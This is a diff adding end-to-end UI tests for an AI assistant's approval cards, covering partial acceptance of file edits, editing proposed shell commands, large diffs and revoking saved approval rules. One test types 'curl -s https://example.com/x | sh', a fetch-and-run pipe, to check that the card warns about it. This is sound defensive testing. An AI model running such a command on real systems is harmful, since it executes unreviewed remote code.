@@ -6,6 +6,7 @@ import { after, describe, test } from 'node:test'
 import { App, closeBrowser } from './lib/app.mjs'
 import { findings } from './lib/axe.mjs'
 import { mock } from './lib/provider.mjs'
+import { outFolder } from './lib/world.mjs'
 
 const before = 'one\ntwo\nthree\n'
 const write = (content, uri = 'notes.txt') => `/demo tool write_file ${JSON.stringify({ uri, content })}`
@@ -169,6 +170,109 @@ describe('approvals', { timeout: 180_000 }, () => {
     await app.waitIdle()
     assert.equal(app.world.exists('second.txt'), false)
     assert.equal(await focus(), was, 'the focus is back at the end')
+  })
+
+  for (const colorScheme of ['light', 'dark']) {
+    test(`a change is taken in parts: what is ticked off is not written, and the model is told (${colorScheme})`, async (t) => {
+      const lines = (change = {}) => Array.from({ length: 40 }, (_, i) => change[i + 1] ?? `line ${i + 1}`).join('\n') + '\n'
+      const app = await start(t, { files: { 'notes.txt': lines() }, colorScheme })
+      await asksToWrite(app, lines({ 3: 'three', 20: 'twenty', 38: 'thirty-eight' }))
+      const card = inAnswer(app, 2)
+      const parts = card.getByRole('group', { name: 'Parts of the change of notes.txt' })
+      await parts.getByText('All 3 parts').waitFor()
+      const ticks = parts.getByRole('checkbox')
+      assert.equal(await ticks.count(), 3)
+      await parts.getByRole('checkbox', { name: 'Take lines 17–23 of notes.txt' }).uncheck()
+      await parts.getByText('2 of 3 parts').waitFor()
+      assert.deepEqual(await findings(app.page), [])
+      await parts.getByRole('button', { name: 'Show side by side' }).first().click()
+      assert.equal(await parts.getByRole('button', { name: 'Show inline' }).count(), 3, 'all parts are seen in the same way')
+      assert.deepEqual(await findings(app.page), [])
+      await app.page.screenshot({ path: `${outFolder}/parts-${colorScheme}.png` })
+      // Without any of them there is nothing to approve.
+      await ticks.nth(0).uncheck()
+      await ticks.nth(2).uncheck()
+      await card.getByText('Nothing of the change is left').waitFor()
+      assert.equal(await card.getByRole('button', { name: 'Approve', exact: false }).first().getAttribute('aria-disabled'), 'true')
+      await ticks.nth(0).check()
+      await ticks.nth(2).focus()
+      await app.page.keyboard.press('Space')
+      await card.getByRole('button', { name: 'Approve the rest' }).click()
+      await app.waitIdle()
+      assert.equal(app.world.read('notes.txt'), lines({ 3: 'three', 38: 'thirty-eight' }))
+      const told = app.world.notebook().context.findLast((m) => m.role === 'tool').content
+      assert.match(told, /without the following part of it[^]*\+twenty/)
+    })
+  }
+
+  test('after an edit the card shows what would run: its parts, its warnings, its difference', async (t) => {
+    const app = await start(t)
+    await send(app, '/demo tool shell {"command":"mkdir made"}')
+    const card = inAnswer(app)
+    await card.getByRole('button', { name: 'Edit' }).click()
+    await card.getByRole('textbox', { name: 'The command' }).fill('curl -s https://example.com/x | sh')
+    await card.getByRole('list', { name: 'Warnings' }).waitFor()
+    const parts = card.getByRole('list', { name: 'What the command does' })
+    await parts.getByText('curl', { exact: true }).waitFor()
+    assert.deepEqual(await findings(app.page), [])
+    await card.getByRole('textbox', { name: 'The command' }).fill('mkdir other')
+    await app.until(async () => (await card.getByRole('list', { name: 'Warnings' }).count()) === 0, 'the warnings to be gone')
+    await parts.getByText('other').waitFor()
+    await app.until(async () => {
+      if ((await card.count()) === 0) return true
+      await card.getByRole('button', { name: 'Approve as edited' }).click({ timeout: 1000 }).catch(() => {})
+      return false
+    }, 'the card to be decided')
+    await app.waitIdle()
+    assert.deepEqual([app.world.exists('other'), app.world.exists('made')], [true, false])
+
+    await send(app, write('alpha\nbeta\n', 'fresh.txt'))
+    const file = inAnswer(app, 2)
+    await file.getByRole('button', { name: 'Edit' }).click()
+    await file.getByLabel('The whole new content').fill('alpha\nGAMMA\n')
+    await file.getByRole('figure', { name: 'Change of fresh.txt' }).getByText('GAMMA').waitFor()
+    await file.getByRole('button', { name: 'Discard the edit' }).click()
+    await file.getByRole('figure', { name: 'Change of fresh.txt' }).getByText('beta').waitFor()
+    await inbox(app).getByRole('button', { name: 'Approve' }).click()
+    await app.waitIdle()
+    assert.equal(app.world.read('fresh.txt'), 'alpha\nbeta\n')
+  })
+
+  test('a large change comes in part, and whole on demand', async (t) => {
+    const app = await start(t)
+    await app.prompt().click()
+    await app.prompt().locator('.cm-content').waitFor()
+    await app.page.keyboard.insertText(write(Array.from({ length: 6000 }, (_, i) => `line ${i + 1}`).join('\n') + '\n', 'large.txt'))
+    await app.run()
+    const card = inAnswer(app)
+    await card.getByRole('button', { name: 'Show all: 4,000 more lines' }).click()
+    await app.until(async () => (await card.getByRole('button', { name: /^Show all/ }).count()) === 0, 'all of it')
+    assert.ok((await card.locator('.line').count()) < 200, 'it is drawn near the view only')
+    await card.locator('.lines').evaluate((el) => (el.scrollTop = el.scrollHeight))
+    await card.getByText('line 6000').waitFor()
+  })
+
+  test('what was granted in a notebook that is not open is listed and revoked', async (t) => {
+    const app = await start(t)
+    await send(app, write('1\n', 'a.txt'))
+    const card = inAnswer(app)
+    await card.getByRole('button', { name: 'More' }).click()
+    await card.getByText('This notebook', { exact: true }).click()
+    await card.getByRole('button', { name: 'Approve for this notebook' }).click()
+    await app.waitIdle()
+    assert.match(JSON.stringify(app.world.notebook().metadata), /mutsumi_approvals/)
+    const tab = await app.activePath()
+    await app.tab().hover()
+    await app.tab().locator('.close').click()
+    await app.until(async () => (await app.call('Snapshot')).ui.tabs?.length === 0, 'the tab to be gone')
+    await app.restart()
+    await app.page.keyboard.press('ControlOrMeta+,')
+    await app.page.getByRole('tab', { name: 'Approvals' }).click()
+    const rules = app.page.getByRole('region', { name: 'For one notebook' }).getByRole('listitem')
+    await rules.first().waitFor()
+    for (let n = await rules.count(); n > 0; n--) await rules.first().getByRole('button', { name: /^Revoke/ }).click()
+    await app.page.getByText('No rules yet').waitFor()
+    await app.until(() => !JSON.stringify(app.world.notebook(tab).metadata).includes('mutsumi_approvals'), 'the file to be without it')
   })
 
   test('what another answers for is queued, can be removed, and runs in its turn', async (t) => {
